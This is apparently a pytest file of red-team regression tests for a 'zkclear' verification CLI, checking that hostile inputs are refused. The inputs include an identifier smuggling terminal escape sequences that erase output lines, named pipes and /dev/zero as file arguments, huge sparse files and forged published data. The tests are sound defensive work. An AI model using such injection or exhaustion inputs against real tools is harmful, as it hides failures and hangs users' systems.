def test_a_mark_named_with_a_terminal_escape_is_refused_not_printed(proven, tmp_path):
    """The operator names a mark in the public inputs with an escape sequence that erases the line above on the
    participant's terminal (where a FAILED line could be): identifiers are printable ASCII."""
    deployment = _copy(proven, tmp_path)
    inputs = deployment.public_inputs(3)
    document = json.loads(inputs.to_bytes())
    document["derived"]["marks"][0][0] = "BTC-PERP\x1b[1A\x1b[2K"

    class Unchecked(PublicInputs):  # the operator writes the file's bytes itself
        def to_bytes(self) -> bytes:
            return json.dumps(self.document, sort_keys=True, separators=(",", ":")).encode("ascii")

    _prove_with(deployment, proven, 3, deployment.public_data(3, inputs), Unchecked(document))
    out = _verify_epoch_3(deployment, tmp_path, expect=1)
    assert "\x1b" not in out and "derived.marks[0][0]" in out and "printable ASCII identifier" in out


def test_a_named_pipe_given_as_a_receipt_or_participant_file_is_refused_not_waited_on(proven, tmp_path):
    """A pipe blocked verify forever (and a device such as /dev/zero was read until memory ran out): a file
    argument must be a regular file."""
    import os

    deployment = proven["deployment"]
    account = _trader(deployment)
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    for args in (["--receipt", pipe, "--account", account.account_id],
                 ["--receipt", deployment.receipt_path(3, account.account_id), "--participant", pipe]):
        result = subprocess.run([sys.executable, "-m", "zkclear.cli", "verify", deployment.epoch_dir(3), *args],
                                capture_output=True, text=True, timeout=120, check=False)
        assert result.returncode == 1 and result.stderr == f"error: {pipe}: not a regular file\n", result.stderr


def test_a_history_csv_that_cannot_be_written_names_the_file_and_option(proven, tmp_path):
    """A write error's message does not name the file ('error: Input/output error' was all a participant saw)."""
    deployment = proven["deployment"]
    account = _trader(deployment)
    args = ["verify", deployment.epoch_dir(2), deployment.epoch_dir(3),
            "--receipt", deployment.receipt_path(2, account.account_id),
            "--receipt", deployment.receipt_path(3, account.account_id), "--account", account.account_id]
    for target in (Path("/proc/version"), tmp_path / "missing" / "history.csv"):
        out = zkclear(*args, "--history-csv", target, expect=1)
        assert out.strip().splitlines() == [out.strip()] and f"{target}: field '--history-csv': cannot write" in out


def test_receipts_of_epochs_with_a_gap_are_not_said_to_chain_in_json_either(proven):
    """--json said nothing of the unchecked link: a program reading it could take epochs 1 and 3 for a chain."""
    deployment = proven["deployment"]
    account = next(a for a in deployment.accounts(1) if a.account_id.startswith("trader-"))
    args = ["verify", *(deployment.epoch_dir(n) for n in (1, 2, 3)), "--account", account.account_id, "--json"]
    for epoch in (1, 2, 3):
        args += ["--receipt", deployment.receipt_path(epoch, account.account_id)]
    document = json.loads(zkclear(*args))
    assert document["links"] == [{"from": 1, "to": 2, "chained": True}, {"from": 2, "to": 3, "chained": True}]
    gap = ["verify", deployment.epoch_dir(1), deployment.epoch_dir(3), "--account", account.account_id, "--json",
           "--receipt", deployment.receipt_path(1, account.account_id),
           "--receipt", deployment.receipt_path(3, account.account_id)]
    assert json.loads(zkclear(*gap))["links"] == [{"from": 1, "to": 3, "chained": False}]


def test_an_oversized_participant_or_public_file_is_refused_by_its_size_naming_it(proven, tmp_path):
    """A participant file or a public JSON file tens of gigabytes long (sparse: it costs no disk) was read whole
    before its size was checked: 'error: input too large or too deeply nested (MemoryError)', naming no file, and a
    file of a few gigabytes took that much memory and half a minute. Its size is now checked before it is read."""
    deployment = proven["deployment"]
    account = _trader(deployment)
    receipt = deployment.receipt_path(3, account.account_id)
    huge = tmp_path / "participant.toml"
    with open(huge, "wb") as handle:
        handle.truncate(50 << 30)
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", receipt, "--participant", huge, expect=1)
    assert out == f"error: {huge}: {50 << 30} bytes is larger than the 4096-byte limit\n"
    # red team round 4: the receipt, the auditor's total file and (below) the bundle were still read whole
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", huge, "--account", account.account_id, expect=1)
    assert out == f"error: {huge}: {50 << 30} bytes is larger than the {256 << 20}-byte limit\n"
    out = zkclear("audit", deployment.epoch_dir(3), "--total", huge, expect=1)
    assert out == f"error: {huge}: {50 << 30} bytes is larger than the {64 << 20}-byte limit\n"
    folder = tmp_path / "epoch"
    shutil.copytree(deployment.epoch_dir(3), folder)
    for name in ("epoch-3.inputs.json", "epoch-3.public.json", "epoch-3.bundle"):
        shutil.copy(deployment.epoch_dir(3) / name, folder / name)
        with open(folder / name, "r+b") as handle:
            handle.truncate(50 << 30)
        out = zkclear("verify", folder, "--receipt", receipt, "--account", account.account_id, expect=1)
        assert out.startswith(f"error: {folder / name}: {50 << 30} bytes is larger than the ") and out.count("\n") == 1
        shutil.copy(deployment.epoch_dir(3) / name, folder / name)


def test_a_pipe_or_a_device_given_as_any_other_file_option_is_refused_not_read(proven, tmp_path):
    """Beyond receipts and participant files, the auditor's --marks, a custodian's --key and --text-file, `keys
    address` and the operator's --reserves read whatever they were given: a named pipe blocked forever, /dev/zero
    was read until the kernel killed the process (exit status 137). Each is now one line naming it (exit 1)."""
    import os
    import resource

    deployment = proven["deployment"]
    key = sorted(proven["dir"].parent.glob("custodian-*.key"))[0]
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))

    for target in (pipe, Path("/dev/zero")):
        for args in (["audit", deployment.epoch_dir(1), "--marks", target],
                     ["epoch", "attest", "-d", proven["dir"], "--epoch", 1, "--key", target],
                     ["keys", "address", target],
                     ["keys", "sign", key, "--text-file", target],
                     ["epoch", "prove", "-d", proven["dir"], "--reserves", target]):
            result = subprocess.run([sys.executable, "-m", "zkclear.cli", *map(str, args)], capture_output=True,
                                    text=True, timeout=120, check=False, preexec_fn=limit)
            assert result.returncode == 1 and result.stderr == f"error: {target}: not a regular file\n", \
                (args, result.returncode, result.stderr)


def test_a_participant_is_not_shown_marks_that_the_published_inputs_do_not_give(proven, forged_derived_mark, capsys):
    """The operator publishes derived marks its inputs do not give (the proofs use the honest risk data): the
    audit caught it, but a participant's `verify` passed and printed the forged mark as the epoch's mark — the one
    a participant is told to compare with the market. `verify` now recomputes the public data from the public inputs
    too (a few milliseconds; the browser page, without the clearing engine, does not)."""
    deployment = forged_derived_mark
    account = _trader(deployment)
    failure = _json_failure(zkclear("verify", deployment.epoch_dir(3), "--receipt",
                                    deployment.receipt_path(3, account.account_id), "--account", account.account_id,
                                    "--json", expect=2, capsys=capsys))
    assert failure["reason"] == "public-inputs-mismatch" and "derived.marks[0][1]" in failure["detail"]
    honest = proven["deployment"]
    zkclear("verify", honest.epoch_dir(3), "--receipt", honest.receipt_path(3, account.account_id), "--account",
            account.account_id, capsys=capsys)
    # the participant example, "what zkclear verify does", skipped the recomputation (red team round 6)
    receipt = deployment.receipt_path(3, account.account_id)
    assert "FAILED [public-inputs-mismatch]" in _example(2, "participant.py", deployment.epoch_dir(3), receipt,
                                                         "--account", account.account_id)
    honest_receipt = honest.receipt_path(3, account.account_id)
    assert "is at leaf" in _example(0, "participant.py", honest.epoch_dir(3), honest_receipt, "--account",
                                    account.account_id)


def test_a_history_csv_aimed_at_an_input_file_is_refused_and_the_file_kept(proven, tmp_path):
    """`--history-csv` wrote over whatever it named: given the receipt's own path (a slip of tab completion), it
    replaced the participant's receipt — perhaps their only copy — with the CSV. A file the command reads (receipt,
    participant file, published epoch file) is now refused, before anything is written."""
    deployment = proven["deployment"]
    account = _trader(deployment)
    receipt = tmp_path / "mine.rcpt"
    shutil.copy(deployment.receipt_path(3, account.account_id), receipt)
    kept = receipt.read_bytes()
    folder = tmp_path / "epoch"
    shutil.copytree(deployment.epoch_dir(3), folder)
    bundle = folder / "epoch-3.bundle"
    for target in (receipt, tmp_path / "." / "mine.rcpt", bundle):
        out = zkclear("verify", folder, "--receipt", receipt, "--account", account.account_id, "--history-csv", target,
                      expect=1)
        assert out == f"error: {target}: field '--history-csv': is one of the files this command reads\n", out
    assert receipt.read_bytes() == kept
    assert bundle.read_bytes() == (deployment.epoch_dir(3) / "epoch-3.bundle").read_bytes()
    zkclear("verify", folder, "--receipt", receipt, "--account", account.account_id)


# -- the public inputs chain: configuration and previous state carried from epoch to epoch -------------------


def test_an_epoch_proven_under_another_configuration_breaks_the_chain(proven, tmp_path, capsys):
    """Red team round 4: the operator proves epoch 3 under a zkclear.toml with maintenance fractions 50 times lower
    than epochs 1 and 2 (recomputed consistently, so epoch 3 audits alone); the chain audit and the participant's
    history refuse it."""
    from zkclear.proofs.recompute import recompute

    deployment = _copy(proven, tmp_path)
    document = json.loads(deployment.public_inputs(3).to_bytes())
    assert "maintenance_margin_ppm = 50000" in document["config"]
    document["config"] = document["config"].replace("maintenance_margin_ppm = 50000", "maintenance_margin_ppm = 1000")
    document["derived"] = recompute(PublicInputs(document)).derived
    forged = PublicInputs(document)
    _prove_with(deployment, proven, 3, recompute(forged).public_data, forged)
    assert "epoch 3: OK" in zkclear("audit", deployment.epoch_dir(3), capsys=capsys)  # alone: nothing to compare
    failure = _json_failure(zkclear("audit", deployment.epoch_dir(2), deployment.epoch_dir(3), "--json", expect=2,
                                    capsys=capsys))
    assert failure["reason"] == "epoch-chain-broken" and "configuration" in failure["detail"]
    account = _trader(deployment, 2)
    out = zkclear("verify", deployment.epoch_dir(2), deployment.epoch_dir(3),
                  "--receipt", deployment.receipt_path(2, account.account_id),
                  "--receipt", deployment.receipt_path(3, account.account_id), "--account", account.account_id,
                  expect=2, capsys=capsys)
    assert "[epoch-chain-broken]" in out and "configuration" in out and out.strip().count("\n") == 0
    # the auditor example, "what zkclear audit does", checked the headers' chain but not the inputs' (red team round 6)
    out = _example(2, "auditor.py", deployment.epoch_dir(2), deployment.epoch_dir(3))
    assert "FAILED [epoch-chain-broken]" in out and "configuration" in out



def test_a_huge_published_price_history_is_refused_before_any_estimation(proven, tmp_path, capsys):
    """Red team round 4: an epoch folder whose inputs file carries a price history the engine never keeps (here 2,000
    prices of an unknown group; 340 groups of 65,536 fill 64 MiB, over half an hour of GARCH fits) is refused at
    once, whoever altered it."""
    from zkclear.verifier.public_inputs import encode_public_inputs

    folder = tmp_path / "3"
    shutil.copytree(proven["deployment"].epoch_dir(3), folder)
    path = folder / "epoch-3.inputs.json"
    document = json.loads(path.read_bytes())
    document["previous"]["price_history"] = [["HOSTILE", list(range(1, 2001))]]
    path.write_bytes(encode_public_inputs(document))
    failure = _json_failure(zkclear("audit", folder, "--json", expect=2, capsys=capsys))
    assert failure["reason"] == "public-data-mismatch"  # not the bound file: named before any estimation
    # an operator could bind such a history: the recomputation refuses it at once, by name
    assert _recompute_failure(folder, document, detail="not one the configuration keeps") == "public-inputs-invalid"


def _recompute_failure(folder: Path, document: dict, detail: str | None = None) -> str:
    """The recomputation's verdict on ``document`` as if the header bound it (what an operator could publish)."""
    from zkclear.errors import VerificationError
    from zkclear.proofs.recompute import check_public_inputs

    published = open_published(folder)
    with pytest.raises(VerificationError) as caught:
        check_public_inputs(PublicInputs(document), published.public, epoch=published.epoch)
    assert detail is None or detail in caught.value.detail
    return caught.value.reason


def test_show_refuses_public_files_the_header_does_not_bind(proven, tmp_path, capsys):
    """Red team round 4: ``show`` printed the marks and values per lot of whatever inputs and risk data files sat
    next to the bundle (a mirror's altered copy), under the genuine header hash."""
    deployment = proven["deployment"]
    folder = tmp_path / "3"
    shutil.copytree(deployment.epoch_dir(3), folder)
    (folder / "epoch-3.inputs.json").write_bytes((deployment.epoch_dir(2) / "epoch-2.inputs.json").read_bytes())
    out = zkclear("show", folder, expect=2, capsys=capsys)
    assert "[public-data-mismatch]" in out and "public inputs" in out and out.strip().count("\n") == 0
